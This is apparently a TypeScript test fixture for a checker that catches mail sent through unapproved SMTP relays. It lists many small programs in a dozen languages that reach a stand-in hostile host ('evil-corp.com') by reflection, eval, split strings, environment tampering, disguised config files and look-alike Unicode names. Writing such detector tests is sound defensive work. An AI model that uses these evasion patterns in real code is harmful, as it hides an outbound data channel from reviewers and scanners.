/**
 * Programs that reach the library, the setting or the host by a detour: reflection, names in texts, programs in texts, files
 * that are read, texts that are parsed. Each sends mail through a relay that is not approved, and must be stopped.
 */
import type { Files } from '../repository.ts';
import { EVIL } from './changes.ts';

const js = (code: string): Files => ({ 'app/m.js': `const n = require('nodemailer');\n${code}\n` });
const jsHost = (host: string, before = ''): Files => js(`${before}n.createTransport({ host: ${host}, port: 25 });`);
const python = (code: string): Files => ({ 'app/m.py': `import os, sys, smtplib\n${code}\n` });
const pythonHost = (host: string, before = ''): Files => python(`${before}s = smtplib.SMTP(${host}, 25)`);
const php = (code: string): Files => ({
  'app/m.php': `<?php\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n${code}\n`,
});
const ruby = (code: string): Files => ({ 'app/m.rb': `require 'net/smtp'\n${code}\n` });
const java = (code: string): Files => ({
  'app/M.java': `import org.apache.commons.mail.SimpleEmail;\nimport java.util.*;\nclass M {\n  void send() throws Exception {\n${code}\n  }\n}\n`,
});
const javaProperties = (code: string): Files => ({
  'app/M.java': `import jakarta.mail.Session;\nimport java.util.*;\nclass M {\n  void send() throws Exception {\n    Properties p = new Properties();\n${code}\n    Session s = Session.getInstance(p);\n  }\n}\n`,
});
const javaHost = (host: string, before = ''): Files =>
  java(`    SimpleEmail email = new SimpleEmail();\n${before}    email.setHostName(${host});`);
const csharp = (code: string): Files => ({
  'app/M.cs': `using System;\nusing System.Net.Mail;\nusing System.Reflection;\nclass M {\n  void Send() {\n${code}\n  }\n}\n`,
});
const go = (imports: string, code: string): Files => ({
  'app/m.go': `package main\n\nimport (\n${imports
    .split(' ')
    .map((one) => `\t"${one}"\n`)
    .join('')})\n\nfunc main() {\n${code}\n}\n`,
});

export const indirectPrograms: Readonly<Record<string, Files>> = {
  'ruby, a method by its name, with a block': {
    'm.rb': `require 'net/smtp'\nNet::SMTP.public_send(:start, '${EVIL}', 25) { |s| s.send_message 'x', 'a@b.example', 'c@d.example' }\n`,
  },
  // Reflection and names in texts.
  'java, a method by its name': java(
    `    Object o = Class.forName("org.apache.commons.mail.SimpleEmail").getDeclaredConstructor().newInstance();\n    o.getClass().getMethod("setHostName", String.class).invoke(o, "${EVIL}");`,
  ),
  'java, a method by its name of a known class': java(
    `    SimpleEmail e = new SimpleEmail();\n    SimpleEmail.class.getMethod("setHostName", String.class).invoke(e, "${EVIL}");`,
  ),
  'java, a method by its name, in a variable': java(
    `    SimpleEmail e = new SimpleEmail();\n    java.lang.reflect.Method m = e.getClass().getMethod("setHostName", String.class);\n    m.invoke(e, "${EVIL}");`,
  ),
  'java, BeanUtils': java(
    `    SimpleEmail e = new SimpleEmail();\n    org.apache.commons.beanutils.BeanUtils.setProperty(e, "hostName", "${EVIL}");`,
  ),
  'java, a class by its name': java(
    `    SimpleEmail e = (SimpleEmail) Class.forName("org.apache.commons.mail.SimpleEmail").newInstance();\n    e.setHostName("${EVIL}");`,
  ),
  'java, a method reference': java(
    `    SimpleEmail e = new SimpleEmail();\n    java.util.function.Consumer<String> c = e::setHostName;\n    c.accept("${EVIL}");`,
  ),
  'java, properties put by reflection': javaProperties(
    `    p.getClass().getMethod("put", Object.class, Object.class).invoke(p, "mail.smtp.host", "${EVIL}");`,
  ),
  'java, properties out of a map': javaProperties(`    p.putAll(Map.of("mail.smtp.host", "${EVIL}"));`),
  'java, properties if absent': javaProperties(`    p.putIfAbsent("mail.smtp.host", "${EVIL}");`),
  'java, properties merged': javaProperties(`    p.merge("mail.smtp.host", "${EVIL}", (a, b) -> b);`),
  'java, properties of the system': javaProperties(
    `    System.getProperties().put("mail.smtp." + "host", "${EVIL}");\n    p = System.getProperties();`,
  ),
  'c#, a property by its name': csharp(
    `    var c = new SmtpClient();\n    typeof(SmtpClient).GetProperty("Host").SetValue(c, "${EVIL}");`,
  ),
  'c#, a property by its name of an object': csharp(
    `    var c = new SmtpClient();\n    c.GetType().GetProperty("Ho" + "st")!.SetValue(c, "${EVIL}", null);`,
  ),
  'c#, Activator': csharp(`    var c = (SmtpClient)Activator.CreateInstance(typeof(SmtpClient), "${EVIL}", 25);`),
  'c#, Activator by a name': csharp(
    `    var c = Activator.CreateInstance(Type.GetType("System.Net.Mail.SmtpClient"), new object[] { "${EVIL}", 25 });`,
  ),
  'c#, InvokeMember': csharp(
    `    var c = new SmtpClient();\n    typeof(SmtpClient).InvokeMember("Host", BindingFlags.SetProperty, null, c, new object[] { "${EVIL}" });`,
  ),
  'c#, dynamic': csharp(`    dynamic c = new SmtpClient();\n    c.Host = "${EVIL}";`),
  'c#, a setter by its name': csharp(
    `    var c = new SmtpClient();\n    c.GetType().GetMethod("set_Host").Invoke(c, new object[] { "${EVIL}" });`,
  ),
  'python, setattr of settings': {
    'app/settings.py': `import sys\nsetattr(sys.modules[__name__], "EMAIL_HOST", "${EVIL}")\n`,
  },
  'python, globals set': { 'app/settings.py': `EMAIL_PORT = 25\nglobals()["EMAIL_HOST"] = "${EVIL}"\n` },
  'python, globals updated': { 'app/settings.py': `EMAIL_PORT = 25\nglobals().update(EMAIL_HOST="${EVIL}")\n` },
  'python, vars updated': { 'app/settings.py': `EMAIL_PORT = 25\nvars().update({"EMAIL_" + "HOST": "${EVIL}"})\n` },
  'python, setattr of a settings object': {
    'app/m.py': `from django.conf import settings\nsetattr(settings, "EMAIL_" "HOST", "${EVIL}")\n`,
  },
  'python, sys.modules': python(`s = sys.modules["smtplib"].SMTP("${EVIL}")`),
  'python, methodcaller': python(`from operator import methodcaller\ns = methodcaller("SMTP", "${EVIL}")(smtplib)`),
  'python, partial': python(`from functools import partial\ns = partial(smtplib.SMTP, "${EVIL}")()`),
  'python, a list spread': python(`s = smtplib.SMTP(*["${EVIL}", 25])`),
  'python, a dictionary spread': python(`s = smtplib.SMTP(**{"ho" + "st": "${EVIL}"})`),
  'python, exec': python(`exec('s = smtplib.SMTP("${EVIL}")')`),
  'python, eval': python(`s = eval('smtplib.SMTP("${EVIL}")')`),
  'python, exec of several lines': python(`exec("""\nhost = "${EVIL}"\ns = smtplib.SMTP(host)\n""")`),
  'python, the environment updated': python(`os.environ.update({"SMTP_HOST": "${EVIL}"})`),
  'python, the environment set': python(`os.environ.__setitem__("SMTP_" + "HOST", "${EVIL}")`),
  'python, the environment merged': python(`os.environ |= {"SMTP_HOST": "${EVIL}"}`),
  'python, putenv': python(`os.putenv("SMTP_HOST", "${EVIL}")`),
  'python, the environment of a process': python(
    `import subprocess\nsubprocess.run(["node", "app.js"], env={**os.environ, "SMTP_HOST": "${EVIL}"})`,
  ),
  'php, call_user_func_array': { 'app/m.php': `<?php\ncall_user_func_array('ini_set', ['SMTP', '${EVIL}']);\n` },
  'php, a property by reflection': php(`(new ReflectionProperty($m, 'Host'))->setValue($m, '${EVIL}');`),
  'php, a class by reflection': {
    'app/m.php': `<?php\n$m = (new ReflectionClass('PHPMailer\\\\PHPMailer\\\\PHPMailer'))->newInstance();\n$m->Host = '${EVIL}';\n`,
  },
  'php, a setter by a name': {
    'app/m.php': `<?php\n$t = new Swift_SmtpTransport();\n$t->{'set' . 'Host'}('${EVIL}');\n`,
  },
  'php, a setter that is called': {
    'app/m.php': `<?php\n$t = new Swift_SmtpTransport();\ncall_user_func([$t, 'setHost'], '${EVIL}');\n`,
  },
  'php, a constant in pieces': { 'app/config.php': `<?php\ndefine('SMTP_' . 'HOST', '${EVIL}');\n` },
  'php, GLOBALS': { 'app/config.php': `<?php\n$GLOBALS['config']['smtp_host'] = '${EVIL}';\n` },
  'php, extract': { 'app/config.php': `<?php\nextract(['smtp_host' => '${EVIL}']);\n` },
  'php, eval': php(`eval('$m->Host = "${EVIL}";');`),
  'php, putenv': { 'app/config.php': `<?php\nputenv('SMTP_HOST' . '=' . '${EVIL}');\n` },
  'php, a closure bound': php(`(function () { $this->Host = '${EVIL}'; })->call($m);`),
  'ruby, a setter that is sent': {
    'config/environments/production.rb': `Rails.application.configure do\n  config.action_mailer.send(:smtp_settings=, { address: '${EVIL}', port: 25 })\nend\n`,
  },
  'ruby, a setter that is sent in pieces': {
    'app/m.rb': `ActionMailer::Base.public_send('smtp_' + 'settings=', address: '${EVIL}')\n`,
  },
  'ruby, an instance variable by its name': ruby(`instance_variable_set(:@smtp_host, '${EVIL}')`),
  'ruby, const_get of a module': ruby(`Net.const_get(:SMTP).__send__(:new, '${EVIL}')`),
  'ruby, a method object': ruby(`Net::SMTP.method(:start).call('${EVIL}', 25)`),
  'ruby, eval': ruby(`eval "Net::SMTP.start('${EVIL}', 25)"`),
  'ruby, the environment stored': ruby(`ENV.store('SMTP_HOST', '${EVIL}')`),
  'ruby, the environment updated': ruby(`ENV.update('SMTP_HOST' => '${EVIL}')`),
  'ruby, the environment by ||=': ruby(`ENV['SMTP_' + 'HOST'] ||= '${EVIL}'`),
  'js, Reflect.construct': {
    'app/m.js': `const C = require('smtp-connection');\nReflect.construct(C, [{ host: '${EVIL}', port: 25 }]).connect(() => {});\n`,
  },
  'js, globalThis': { 'app/m.js': `globalThis['require']('nodemailer').createTransport({ host: '${EVIL}' });\n` },
  'js, module.require': { 'app/m.js': `module.require('nodemailer').createTransport({ host: '${EVIL}' });\n` },
  'js, createRequire': {
    'app/m.mjs': `import { createRequire } from 'node:module';\nconst r = createRequire(import.meta.url);\nr('nodemailer').createTransport({ host: '${EVIL}' });\n`,
  },
  'js, a dynamic import': {
    'app/m.mjs': `import('nodemailer').then(({ default: n }) => n.createTransport({ host: '${EVIL}' }));\n`,
  },
  'js, a dynamic import awaited': {
    'app/m.mjs': `const { createTransport: t } = await import('node' + 'mailer');\nt({ host: '${EVIL}' });\n`,
  },
  'js, eval': js(`eval("n.createTransport({ host: '${EVIL}' })");`),
  'js, a function of a text': js(`new Function('n', "return n.createTransport({ host: '${EVIL}' })")(n);`),
  'js, a program for another context': js(
    `require('vm').runInNewContext("n.createTransport({ host: '${EVIL}' })", { n });`,
  ),
  'js, a getter': js(`n.createTransport({ get host() { return '${EVIL}'; }, port: 25 });`),
  'js, a prototype': js(`n.createTransport(Object.create({ host: '${EVIL}' }));`),
  'js, a prototype that is set': js(`n.createTransport({ __proto__: { host: '${EVIL}' }, port: 25 });`),
  'js, entries of a Map': js(`n.createTransport(Object.fromEntries(new Map([['host', '${EVIL}']])));`),
  'js, a copy': js(`n.createTransport(structuredClone({ host: '${EVIL}' }));`),
  'js, optional calls': js(`n?.createTransport?.({ host: '${EVIL}' });`),
  'js, the environment assigned': js(`Object.assign(process.env, { SMTP_HOST: '${EVIL}' });`),
  'js, the environment by pieces': js(`process['env']['SMTP_' + 'HOST'] = '${EVIL}';`),
  'js, the environment of a process': js(
    `require('child_process').spawn('node', ['app.js'], { env: { ...process.env, SMTP_HOST: '${EVIL}' } });`,
  ),
  'go, reflect': {
    'app/m.go': `package main\n\nimport (\n\t"reflect"\n\n\t"gopkg.in/gomail.v2"\n)\n\nfunc main() {\n\td := &gomail.Dialer{Port: 25}\n\treflect.ValueOf(d).Elem().FieldByName("Host").SetString("${EVIL}")\n}\n`,
  },
  'go, a function value': go('net/smtp', `\tsend := smtp.SendMail\n\tsend("${EVIL}:25", nil, "a@b.example", nil, nil)`),
  'go, JoinHostPort': go(
    'net net/smtp',
    `\tsmtp.SendMail(net.JoinHostPort("${EVIL}", "25"), nil, "a@b.example", nil, nil)`,
  ),
  'go, the environment set': go('os', `\tos.Setenv("SMTP_"+"HOST", "${EVIL}")`),

  // Texts that are parsed or filled in.
  'js, a URL taken apart': jsHost(`new URL('smtp://${EVIL}:25').hostname`),
  'js, util.format': jsHost(`require('util').format('%s.%s', 'smtp', 'evil-corp.com')`),
  'js, popped': jsHost(`['${EVIL}'].pop()`),
  'js, a default of a pattern': js(`const { host = '${EVIL}' } = {};\nn.createTransport({ host });`),
  'js, a Map': jsHost(`new Map([['h', '${EVIL}']]).get('h')`),
  'js, a switch': js(
    `function h(m) {\n  switch (m) {\n    case 'a': return 'new-relay.corp.example';\n    default: return '${EVIL}';\n  }\n}\nn.createTransport({ host: h(process.env.M) });`,
  ),
  'js, a loop over hosts': js(`for (const host of ['${EVIL}']) n.createTransport({ host });`),
  'js, forEach over hosts': js(`['${EVIL}'].forEach((host) => n.createTransport({ host }));`),
  'js, a catch': js(
    `let host = 'new-relay.corp.example';\ntry { host = f(); } catch { host = '${EVIL}'; }\nn.createTransport({ host });`,
  ),
  'python, format by names': pythonHost(`"{a}.{b}.com".format(a="smtp", b="evil-corp")`),
  'python, percent by names': pythonHost(`"%(a)s.evil-corp.com" % {"a": "smtp"}`),
  'python, format_map': pythonHost(`"{a}.evil-corp.com".format_map({"a": "smtp"})`),
  'python, literal_eval': pythonHost(`ast.literal_eval("'${EVIL}'")`, 'import ast\n'),
  'python, JSON in a text': pythonHost(`json.loads('{"h": "${EVIL}"}')["h"]`, 'import json\n'),
  'python, an enumeration': pythonHost(
    'Relay.LIVE.value',
    `from enum import Enum\nclass Relay(Enum):\n    LIVE = "${EVIL}"\n`,
  ),
  'python, a dataclass': pythonHost(
    'C().h',
    `from dataclasses import dataclass\n@dataclass\nclass C:\n    h: str = "${EVIL}"\n`,
  ),
  'python, a choice at random': pythonHost(`random.choice(["new-relay.corp.example", "${EVIL}"])`, 'import random\n'),
  'python, a walrus': python(`if (h := "${EVIL}"):\n    s = smtplib.SMTP(h)`),
  'python, next of an iterator': pythonHost(`next(iter(["${EVIL}"]))`),
  'python, unpacked': pythonHost('h', `h, *_ = ["${EVIL}", 25]\n`),
  'python, a match': python(
    `match os.environ.get("M"):\n    case "a":\n        h = "new-relay.corp.example"\n    case _:\n        h = "${EVIL}"\ns = smtplib.SMTP(h)`,
  ),
  'python, a loop over hosts': python(`for h in ("new-relay.corp.example", "${EVIL}"):\n    s = smtplib.SMTP(h)`),
  'java, String.format': javaHost(`String.format("%s.%s.com", "smtp", "evil-corp")`),
  'java, formatted': javaHost(`"%s.evil-corp.com".formatted("smtp")`),
  'java, MessageFormat': javaHost(`java.text.MessageFormat.format("{0}.{1}", "smtp", "evil-corp.com")`),
  'java, orElse': javaHost(`Optional.ofNullable(System.getenv("X")).orElse("${EVIL}")`),
  'java, requireNonNullElse': javaHost(`Objects.requireNonNullElse(System.getenv("X"), "${EVIL}")`),
  'java, a text block': javaHost(`"""\n      ${EVIL}\n      """.strip()`),
  'java, an enumeration': {
    'app/M.java': `import org.apache.commons.mail.SimpleEmail;\nenum Relay {\n  LIVE("${EVIL}");\n  final String host;\n  Relay(String host) { this.host = host; }\n}\nclass M {\n  void send() throws Exception {\n    SimpleEmail e = new SimpleEmail();\n    e.setHostName(Relay.LIVE.host);\n  }\n}\n`,
  },
  'c#, a tuple': csharp(`    var (h, p) = ("${EVIL}", 25);\n    var c = new SmtpClient(h, p);`),
  'c#, a raw text': csharp(`    var c = new SmtpClient("""${EVIL}""");`),
  'c#, a switch': csharp(
    `    var h = Environment.GetEnvironmentVariable("M") switch { "a" => "new-relay.corp.example", _ => "${EVIL}" };\n    var c = new SmtpClient(h);`,
  ),
  'php, vsprintf': php(`$m->Host = vsprintf('%s.%s.com', ['smtp', 'evil-corp']);`),
  'php, a match': php(`$m->Host = match (getenv('M')) { 'a' => 'new-relay.corp.example', default => '${EVIL}' };`),
  'php, parse_url': php(`$m->Host = parse_url('smtp://${EVIL}:25', PHP_URL_HOST);`),
  'php, json_decode': php(`$m->Host = json_decode('{"h":"${EVIL}"}')->h;`),
  'php, a list': php(`[$h, $p] = ['${EVIL}', 25];\n$m->Host = $h;`),
  'ruby, format': ruby(`Net::SMTP.start(format('%s.%s', 'smtp', 'evil-corp.com'), 25)`),
  'ruby, dig': ruby(`Net::SMTP.start({ a: { h: '${EVIL}' } }.dig(:a, :h), 25)`),
  'ruby, a URI taken apart': ruby(`require 'uri'\nNet::SMTP.start(URI('smtp://${EVIL}').host, 25)`),
  'ruby, each over hosts': ruby(`%w[${EVIL}].each { |h| Net::SMTP.start(h, 25) }`),

  // Files that are read.
  'python, a text file read': {
    ...pythonHost(`open("conf/relay").read().strip()`),
    'conf/relay': `${EVIL}\n`,
  },
  'python, a path read': {
    ...pythonHost(`Path("conf/relay.dat").read_text().strip()`, 'from pathlib import Path\n'),
    'conf/relay.dat': `${EVIL}\n`,
  },
  'js, a text file read that comes before it': {
    ...jsHost(`require('fs').readFileSync('a/hop.txt', 'utf8').trim()`),
    'a/hop.txt': `${EVIL}\n`,
  },
  'go, a text file embedded': {
    'hop.txt': `${EVIL}\n`,
    'main.go': `package main\n\nimport (\n\t_ "embed"\n\t"net/smtp"\n\t"strings"\n)\n\n//go:embed hop.txt\nvar hop string\n\nfunc main() { smtp.SendMail(strings.TrimSpace(hop)+":25", nil, "a@b.example", nil, nil) }\n`,
  },
  'deno, a socket': {
    'send.ts': `const c = await Deno.connect({ hostname: '${EVIL}', port: 25 });\nawait say('HELO x');\nawait say('MAIL FROM:<a@b.example>');\nawait say('DATA');\n`,
  },
  'elixir, a socket of Erlang': {
    'send.ex': `{:ok, s} = :gen_tcp.connect(~c"${EVIL}", 25, [])\n:gen_tcp.send(s, "HELO x\\r\\nMAIL FROM:<a@b.example>\\r\\nDATA\\r\\n")\n`,
  },
  'js, a text file read': {
    ...jsHost(`require('fs').readFileSync('conf/relay.dat', 'utf8').trim()`),
    'conf/relay.dat': `${EVIL}\n`,
  },
  'php, a text file read': { ...php(`$m->Host = trim(file_get_contents('conf/relay.dat'));`), 'conf/relay.dat': EVIL },
  'ruby, a text file read': {
    ...ruby(`Net::SMTP.start(File.read('conf/relay.dat').strip, 25)`),
    'conf/relay.dat': `${EVIL}\n`,
  },
  'java, a text file read': {
    ...javaHost(`java.nio.file.Files.readString(java.nio.file.Path.of("conf/relay.dat")).trim()`),
    'conf/relay.dat': `${EVIL}\n`,
  },
  'c#, a text file read': {
    ...csharp(`    var c = new SmtpClient(System.IO.File.ReadAllText("conf/relay.dat").Trim());`),
    'conf/relay.dat': `${EVIL}\n`,
  },
  'python, a JSON file of another name': {
    'app/m.py': `import json, smtplib\nc = json.load(open("conf/mail.dat"))\nsmtplib.SMTP(c["smtp"]["host"])\n`,
    'conf/mail.dat': `{"smtp":{"host":"${EVIL}"}}\n`,
  },
  'python, a YAML file of another name': {
    'app/m.py': `import yaml, smtplib\nc = yaml.safe_load(open("conf/mail.dat"))\nsmtplib.SMTP(c["smtp"]["host"])\n`,
    'conf/mail.dat': `smtp:\n  host: ${EVIL}\n`,
  },
  'python, a CSV file': {
    'app/m.py': `import csv, smtplib\nc = dict(csv.reader(open("conf/mail.csv")))\nsmtplib.SMTP(c["smtp_host"])\n`,
    'conf/mail.csv': `key,value\nsmtp_host,${EVIL}\n`,
  },
  'js, a JSON file of another name': {
    ...jsHost('c.smtp.host', `const c = JSON.parse(require('fs').readFileSync('conf/mail.dat', 'utf8'));\n`),
    'conf/mail.dat': `{"smtp":{"host":"${EVIL}"}}\n`,
  },
  'php, an INI file of another name': {
    ...php(`$c = parse_ini_file('conf/mail.dat');\n$m->Host = $c['host'];`),
    'conf/mail.dat': `host = ${EVIL}\n`,
  },
  'ruby, a YAML file of another name': {
    ...ruby(`c = YAML.load_file('conf/mail.dat')\nNet::SMTP.start(c['host'], 25)`),
    'conf/mail.dat': `host: ${EVIL}\n`,
  },
  'go, an embedded file': {
    'app/m.go':
      'package main\n\nimport (\n\t_ "embed"\n\t"net/smtp"\n\t"strings"\n)\n\n//go:embed relay.dat\nvar host string\n\nfunc main() {\n\tsmtp.Dial(strings.TrimSpace(host) + ":25")\n}\n',
    'app/relay.dat': `${EVIL}\n`,
  },
  'rust, an included file': {
    'app/src/main.rs':
      'use lettre::SmtpTransport;\nfn main() {\n    SmtpTransport::relay(include_str!("relay.dat").trim()).unwrap();\n}\n',
    'app/src/relay.dat': `${EVIL}\n`,
  },
  'python, a line of a file': {
    ...pythonHost('open("conf/relay.dat").readline().rstrip()'),
    'conf/relay.dat': `${EVIL}\n`,
  },
  'terraform, a text file': {
    'main.tf': `resource "x" "y" {\n  environment = {\n    SMTP_HOST = trimspace(file("relay.dat"))\n  }\n}\n`,
    'relay.dat': `${EVIL}\n`,
  },
  'shell, a text file': { 'deploy/run.sh': '#!/bin/sh\nexport SMTP_HOST=$(cat relay.dat)\n', 'relay.dat': `${EVIL}\n` },
  'bash, a text file by <': {
    'deploy/run.sh': '#!/bin/bash\nexport SMTP_HOST=$(<relay.dat)\n',
    'relay.dat': `${EVIL}\n`,
  },

  // What a build writes into a program.
  'rust, a variable of cargo': { '.cargo/config.toml': `[env]\nSMTP_HOST = "${EVIL}"\n` },
  'js, a definition of vite': {
    'vite.config.js': `export default { define: { 'process.env.SMTP_HOST': '"${EVIL}"' } };\n`,
  },

  // Env files that a program writes.
  'js, an env file that is written': js(`require('fs').writeFileSync('.env', 'SMTP_HOST=${EVIL}\\nSMTP_PORT=25\\n');`),
  'js, a line that is appended': js(`require('fs').promises.appendFile('.env', \`SMTP_HOST=${EVIL}\\n\`);`),
  'python, an env file of a path': python(
    `from pathlib import Path\nPath('.env').write_text('SMTP_HOST=${EVIL}\\nSMTP_PORT=25\\n')`,
  ),
  'python, an env file that is open': python(`with open('.env', 'w') as f:\n    f.write('SMTP_HOST=${EVIL}\\n')`),
  'php, an env file': php(`file_put_contents('.env', "SMTP_HOST=${EVIL}\\n");`),
  'ruby, an env file': ruby(`File.write('.env', "SMTP_HOST=${EVIL}\\n")`),
  'go, an env file': {
    'app/m.go': `package m\n\nimport "os"\n\nfunc f() { os.WriteFile(".env", []byte("SMTP_HOST=${EVIL}\\n"), 0600) }\n`,
  },

  // https://peps.python.org/pep-3131/
  'python, names in other letters': {
    'app/m.py': `import ｓｍｔｐｌｉｂ\n𝓼𝓶𝓽𝓹𝓵𝓲𝓫.ＳＭＴＰ("${EVIL}").sendmail("a", "b", "c")\n`,
  },
};
